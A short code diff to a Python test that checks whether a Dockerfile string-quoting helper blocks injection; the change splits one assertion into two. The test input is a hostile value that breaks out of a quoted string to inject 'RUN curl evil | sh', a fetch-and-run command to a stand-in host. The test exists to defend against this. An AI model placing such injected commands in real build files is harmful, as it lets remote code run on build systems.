@@ -34,6 +34,7 @@ def test_dockerfile_strings_cannot_break_out() -> None:
     hostile = 'x" \\\nRUN curl evil | sh\n$HOME ${PATH}'
     quoted = docker_string(hostile)
     assert "\n" not in quoted
-    assert quoted.startswith('"') and quoted.endswith('"')
+    assert quoted.startswith('"')
+    assert quoted.endswith('"')
     assert "$HOME" not in quoted.replace("\\$HOME", "")
     assert '\\"' in quoted
